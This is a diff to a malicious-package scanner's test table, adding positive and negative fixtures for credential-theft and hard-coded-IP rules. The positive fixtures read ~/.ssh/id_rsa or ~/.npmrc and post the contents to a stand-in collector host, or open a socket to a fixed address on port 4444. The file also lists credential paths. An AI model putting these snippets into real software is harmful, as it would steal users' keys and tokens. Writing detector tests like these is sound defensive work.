@@ -221,6 +221,21 @@ CASES = [
      (P, "pkg", sdist("pkg", module('import os\nkeys = open(os.path.expanduser("~/.aws/credentials")).read()'))),
      # a CLI that reads its own configuration under ~/.config
      (P, "pkg", sdist("pkg", module('import os\ncfg = open(os.path.expanduser("~/.config/mytool/config.toml")).read()')))),
+    # read then send: the key and a post a few lines apart; gmlx's deny list of the same paths
+    # beside an API client far below, and a comment naming the key by a post, are not
+    ("STATIC-CREDENTIAL-FILE-SENT",
+     (P, "pkg", sdist("pkg", module("import os, requests\ndef sync():\n    k = open(os.path.expanduser('~/.ssh/id_rsa')).read()\n"
+                                    "    requests.post('https://collector.example.net/c', json={'k': k})\n"))),
+     (P, "pkg", sdist("pkg", module('CREDENTIAL_PATHS = (".ssh", ".aws", ".config/gcloud", ".kube",\n    ".config/gh", ".npmrc", ".git-credentials")\n'
+                                    + "\n" * 30 + "def report(api, data):\n    # never post ~/.ssh/id_rsa or .aws/credentials here\n"
+                                    "    return requests.post(api, json=data)\n")))),
+    ("STATIC-CREDENTIAL-FILE-SENT",
+     (N, "jspkg", npm("jspkg", {"index.js": "const fs = require('fs'), os = require('os');\n"
+                                "const t = fs.readFileSync(os.homedir() + '/.npmrc', 'utf8');\n"
+                                "fetch('https://collector.example.net/t', {\n  method: 'POST',\n  body: t,\n});\n"})),
+     (N, "jspkg", npm("jspkg", {"index.js": "const fs = require('fs'), os = require('os');\n"
+                                "const cfg = fs.readFileSync(os.homedir() + '/.npmrc', 'utf8');\n"
+                                "module.exports = cfg.includes('registry=');\n"}))),
     ("STATIC-PERSISTENCE-PATHS",
      (P, "pkg", sdist("pkg", module('import os\nopen(os.path.expanduser("~/.bashrc"), "a").write(line)'))),
      (P, "pkg", sdist("pkg", module('import os\nopen(os.path.expanduser("~/.config/mytool/rc"), "a").write(line)')))),
@@ -340,8 +355,13 @@ CASES = [
     # learning the local address through a public resolver sends nothing (isage-common); a
     # hard-coded server elsewhere, even on a line that also names a resolver, still fires
     ("STATIC-HARDCODED-IP-URL",
-     (P, "pkg", sdist("pkg", module('import socket\ns = socket.socket()\ns.connect(("203.0.113.9", 4444))  # 8.8.8.8'))),
+     (P, "pkg", sdist("pkg", module('import socket\ns = socket.socket()\ns.connect(("45.61.136.9", 4444))  # 8.8.8.8'))),
      (P, "pkg", sdist("pkg", module('import socket\ns = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\ns.connect(("8.8.8.8", 80))\nip = s.getsockname()[0]')))),
+    # chimera-agent's probe: a documentation address (RFC 5737) is routed nowhere
+    ("STATIC-HARDCODED-IP-URL",
+     (P, "pkg", sdist("pkg", module('import socket\ns = socket.socket()\ns.connect(("198.51.1.7", 9))'))),
+     (P, "pkg", sdist("pkg", module('import socket\nprobe = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n'
+                                    'probe.connect(("192.0.2.1", 9))  # TEST-NET-1: never routed, never reached')))),
     # ---- metadata ----
     ("META-TYPOSQUAT",
      (P, "reqeusts", sdist("reqeusts", module("X = 1"))),
